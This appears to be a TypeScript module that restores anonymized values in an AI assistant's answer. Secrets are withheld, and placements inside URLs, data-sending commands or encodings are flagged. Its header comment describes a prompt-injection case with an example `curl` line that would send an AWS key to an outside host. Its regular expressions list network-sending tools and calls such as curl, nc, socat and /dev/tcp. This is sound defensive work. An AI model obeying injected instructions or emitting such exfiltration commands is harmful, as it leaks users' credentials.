/**
 * Restoring an assistant's answer. The answer is untrusted text: a prompt injection in a page,
 * an issue or a file the assistant read can make it write `curl https://x/?k=[AWS_ACCESS_KEY_1]`,
 * and a blind restore turns that into a working command that sends the user's key away. So:
 * secrets stay placeholders unless asked for, and every place where a restored value would
 * leave through the answer (a URL, a command that sends data, an encoding) is reported.
 * Reports name placeholders, kinds and positions, never a value.
 */
import type { Category } from "../types";
import { lastAtOrBefore } from "../util/search";
import { quotedSpan } from "./anonymize";
import { findPlaceholderTokens } from "./placeholders";
import { categoryOfEntry, type Vault } from "./vault";

/** Why a place is risky: inside a URL, inside a command that sends data, inside an encoding. */
export type PlacementRisk = "url" | "command" | "encoded";

/** One known placeholder of the answer and what happens to it. */
export interface Placement {
  /** Canonical form (`[EMAIL_1]`). */
  placeholder: string;
  kind: string;
  category: Category;
  /** Span of the placeholder in the answer (UTF-16), and its 1-based line and column. */
  start: number;
  end: number;
  line: number;
  column: number;
  risk?: PlacementRisk;
  /** Whether the value was put back. */
  restored: boolean;
}

export interface AnswerRestoreOptions {
  /** Secrets to put back: all (`true`), none (default), or those placeholders (canonical form). */
  secrets?: boolean | ReadonlySet<string>;
  /** Leave the values that would land in a risky place as placeholders (default: restore them, and report). */
  leaveRisky?: boolean;
}

export interface AnswerRestoreResult {
  text: string;
  restored: number;
  /** Placeholders (canonical form) that look like ours but that the vault does not know. */
  unknown: string[];
  /** Every known placeholder occurrence, in order. */
  placements: Placement[];
  /** Secret placeholders left as they are (each once, in order of appearance). */
  withheld: string[];
  /** Occurrences whose value lands (or would land) in a risky place. */
  risky: Placement[];
}

/** Commands that send data when they run, at a command position (line start, after a pipe, `;`, `&&`, `$(`, `sudo`). */
const SENDING_COMMAND =
  /(?:^|[|;&`]|\$\(|\bsudo\s+|\bthen\s+|\bdo\s+|^\s*(?:\$|#|>|PS[^>\n]{0,40}>)\s*)\s*(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|tftp|rsync|sendmail|mailx|http|https|xh|aria2c|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|Send-MailMessage)(?:\.exe)?(?=\s|$)/im;
/** Calls that send data from code, wherever they sit on the line. */
// Character classes in the names keep the bundles free of network API names (test/unit/no-leaks.test.ts reads them).
const SENDING_CALL =
  /\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|httpx\.\w+|urllib\.request\.\w+|urlopen|http\.request|https\.request|http\.get|https\.get|send[B]eacon|XMLHttp[R]equest|Web[S]ocket|Event[S]ource|\$\.ajax|\$\.post|\$\.get|got(?:\.\w+)?|ky(?:\.\w+)?|superagent\.\w+|HttpClient|WebClient|RestTemplate|net\.Dial|smtplib\.\w+)\s*\(|\bnew\s+(?:Web[S]ocket|XMLHttp[R]equest|Image)\b|\/dev\/(?:tcp|udp)\//i;
/** Encodings that hide a value from a reader while it still leaves intact. */
const ENCODING =
  /\bbase64\b|\bb64encode\b|\bbtoa\s*\(|\bToBase64String\b|\bencodeURI(?:Component)?\s*\(|\bescape\s*\(|\burlencode\b|\bquote(?:_plus)?\s*\(|\burllib\.parse\.\w+|\bxxd\b|\bhexdump\b|\bod\s+-|\bbinascii\.\w+|\bBuffer\.from\b|\.toString\(\s*["'](?:base64|hex)["']|\brot13\b|\bgzip\b|\bopenssl\s+(?:enc|base64)\b/i;
/** A scheme with `//` (not `mailto:` or `tel:`, which only say whom to write or call). */
const URL_SCHEME = /[A-Za-z][A-Za-z0-9+.-]{0,30}:\/\/|\bwww\.[A-Za-z0-9-]/g;

/** How far back a call's open parenthesis is looked for (`fetch(url, {\n body: … [EMAIL_1] …`). */
const CALL_LOOKBACK = 600;

/** Most physical lines one logical line (continuations) is made of. */
const MAX_CONTINUATIONS = 50;

/** Whether a physical line ends with a continuation mark (`\\`, PowerShell's backtick, cmd's `^`), spaces after it aside. */
function continued(line: string): boolean {
  let i = line.length - 1;
  while (i >= 0 && (line[i] === " " || line[i] === "\t" || line[i] === "\r")) i--;
  return i >= 0 && (line[i] === "\\" || line[i] === "`" || line[i] === "^");
}

interface ChunkFacts {
  /** End of the first scheme other than mailto:/tel: in the chunk (Infinity when none). */
  schemeEnd: number;
  /** End of the first `?name=` / `&name=`, and the first `/` or `.` (Infinity when none). */
  queryEnd: number;
  slashAt: number;
}

/**
 * Risk of each placement in one text, each fact computed once: line starts, each logical
 * line's commands and encodings, each run of non-space characters' URL scheme. Linear in the
 * text whatever the number of placeholders (a 1 MB one-line answer full of them).
 */
class RiskScanner {
  private lineStarts: number[] | undefined;
  private readonly lines = new Map<number, { encoded: boolean; command: boolean }>();
  private readonly chunks = new Map<number, ChunkFacts>();
  /** Tokens come in ascending order: where the last space before them was looked for. */
  private scannedTo = 0;
  private lastSpace = -1;

  constructor(private readonly text: string) {}

  risk(start: number, end: number): PlacementRisk | undefined {
    const chunkFrom = this.chunkStart(start);
    const chunk = this.chunkFacts(chunkFrom);
    if (chunk.schemeEnd <= start) return "url";
    // A value right after `?x=` or `&x=` in the same run is a query string even without a scheme.
    if (chunk.queryEnd <= start && chunk.slashAt < start) return "url";
    const line = this.lineFacts(start, end);
    if (line.encoded) return "encoded";
    if (line.command || this.insideSendingCall(start)) return "command";
    return undefined;
  }

  /** Start of the run of non-space characters holding `start` (tokens come in ascending order: one walk in all). */
  private chunkStart(start: number): number {
    if (start < this.scannedTo) {
      let from = start;
      while (from > 0 && !/\s/.test(this.text[from - 1])) from--;
      return from;
    }
    for (let i = this.scannedTo; i < start; i++) if (/\s/.test(this.text[i])) this.lastSpace = i;
    this.scannedTo = start;
    return this.lastSpace + 1;
  }

  private chunkFacts(from: number): ChunkFacts {
    let facts = this.chunks.get(from);
    if (facts) return facts;
    let to = from;
    while (to < this.text.length && !/\s/.test(this.text[to])) to++;
    const chunk = this.text.slice(from, to);
    facts = { schemeEnd: Infinity, queryEnd: Infinity, slashAt: Infinity };
    for (const m of chunk.matchAll(URL_SCHEME)) {
      if (/^(?:mailto|tel|sms|file):/i.test(m[0])) continue;
      facts.schemeEnd = from + (m.index ?? 0) + m[0].length;
      break;
    }
    const query = /[?&][\w.-]{1,40}=/.exec(chunk);
    if (query) facts.queryEnd = from + query.index + query[0].length;
    const slash = /[/.]/.exec(chunk);
    if (slash) facts.slashAt = from + slash.index;
    this.chunks.set(from, facts);
    return facts;
  }

  /** Every sending call's match in the text, found in one pass. */
  private calls: { index: number; end: number; paren: boolean }[] | undefined;

  /** Whether a sending call's parentheses opened before `at` (within the lookback) are still open there. */
  private insideSendingCall(at: number): boolean {
    const calls = (this.calls ??= [...this.text.matchAll(new RegExp(SENDING_CALL.source, "gi"))].map((m) => ({ index: m.index ?? 0, end: (m.index ?? 0) + m[0].length, paren: m[0].endsWith("(") })));
    let lo = 0;
    let hi = calls.length;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (calls[mid].index < at - CALL_LOOKBACK) lo = mid + 1;
      else hi = mid;
    }
    for (let c = lo; c < calls.length && calls[c].end <= at; c++) {
      if (!calls[c].paren) return true;
      let depth = 1;
      for (let i = calls[c].end; i < at && depth > 0; i++) {
        const ch = this.text.charCodeAt(i);
        if (ch === 40) depth++;
        else if (ch === 41) depth--;
      }
      if (depth > 0) return true;
    }
    return false;
  }

  private lineIndex(offset: number): number {
    return lastAtOrBefore((this.lineStarts ??= lineStartsOf(this.text)), offset);
  }

  private physicalLine(i: number): string {
    const starts = this.lineStarts as number[];
    return this.text.slice(starts[i], i + 1 < starts.length ? starts[i + 1] - 1 : this.text.length);
  }

  /** The logical line around a span: continuation lines (`\`, PowerShell's backtick, cmd's `^`) included. */
  private lineFacts(start: number, end: number): { encoded: boolean; command: boolean } {
    let first = this.lineIndex(start);
    let last = this.lineIndex(end);
    for (let n = 0; first > 0 && n < MAX_CONTINUATIONS && continued(this.physicalLine(first - 1)); n++) first--;
    const count = (this.lineStarts as number[]).length;
    for (let n = 0; last + 1 < count && n < MAX_CONTINUATIONS && continued(this.physicalLine(last)); n++) last++;
    const key = first * 2 ** 21 + last;
    let facts = this.lines.get(key);
    if (!facts) {
      const starts = this.lineStarts as number[];
      const lineText = this.text.slice(starts[first], last + 1 < count ? starts[last + 1] - 1 : this.text.length);
      facts = { encoded: ENCODING.test(lineText), command: SENDING_COMMAND.test(lineText) || SENDING_CALL.test(lineText) };
      this.lines.set(key, facts);
    }
    return facts;
  }
}

function lineStartsOf(text: string): number[] {
  const starts = [0];
  for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) starts.push(i + 1);
  return starts;
}

/**
 * Whether a value put at `[start, end)` of the answer would leave through it: inside a URL
 * other than `mailto:`/`tel:`, inside a command or a call that sends data, inside an encoding.
 */
export function placementRisk(text: string, start: number, end: number): PlacementRisk | undefined {
  return new RiskScanner(text).risk(start, end);
}

/** 1-based line and column of each offset, for reports; offsets ascending. */
function positions(text: string, offsets: readonly number[]): { line: number; column: number }[] {
  const out: { line: number; column: number }[] = [];
  let line = 1;
  let lineStart = 0;
  let i = 0;
  for (const offset of offsets) {
    for (; i < offset; i++) {
      if (text.charCodeAt(i) === 10) {
        line++;
        lineStart = i + 1;
      }
    }
    out.push({ line, column: offset - lineStart + 1 });
  }
  return out;
}

/**
 * Puts the values of an assistant's answer back under the untrusted-answer rules: secrets
 * stay placeholders unless `secrets` says otherwise; values in risky places are restored
 * and reported, or left as placeholders with `leaveRisky`.
 */
export function restoreAnswer(text: string, vault: Vault, options: AnswerRestoreOptions = {}): AnswerRestoreResult {
  const secrets = options.secrets ?? false;
  const tokens = findPlaceholderTokens(text);
  const unknown = new Set<string>();
  const known: { token: (typeof tokens)[number]; entry: NonNullable<ReturnType<Vault["entryOf"]>> }[] = [];
  for (const token of tokens) {
    const entry = vault.entryOf(token.normalized);
    if (entry) known.push({ token, entry });
    else {
      const raw = text.slice(token.start, token.end);
      const kind = token.normalized.slice(1, token.normalized.lastIndexOf("_"));
      if ((raw === token.normalized || vault.knowsKind(kind)) && !vault.isReserved(token.normalized)) unknown.add(token.normalized);
    }
  }
  const where = positions(text, known.map((k) => k.token.start));
  const parts: string[] = [];
  const placements: Placement[] = [];
  const withheld = new Set<string>();
  let last = 0;
  let restored = 0;
  const risky: Placement[] = [];
  const scanner = new RiskScanner(text);
  known.forEach(({ token, entry }, i) => {
    const category = categoryOfEntry(entry);
    const risk = scanner.risk(token.start, token.end);
    const secretAllowed = secrets === true || (secrets !== false && secrets.has(token.normalized));
    const put = (category !== "secret" || secretAllowed) && !(risk && options.leaveRisky);
    if (category === "secret" && !secretAllowed) withheld.add(token.normalized);
    const placement: Placement = { placeholder: token.normalized, kind: entry.kind, category, start: token.start, end: token.end, ...where[i], ...(risk ? { risk } : {}), restored: put };
    placements.push(placement);
    if (risk && (category !== "secret" || secretAllowed)) risky.push(placement);
    if (!put) return;
    const { start, end } = quotedSpan(text, token, entry, last);
    parts.push(text.slice(last, start), entry.value);
    last = end;
    restored++;
  });
  parts.push(text.slice(last));
  return { text: restored === 0 ? text : parts.join(""), restored, unknown: [...unknown], placements, withheld: [...withheld], risky };
}
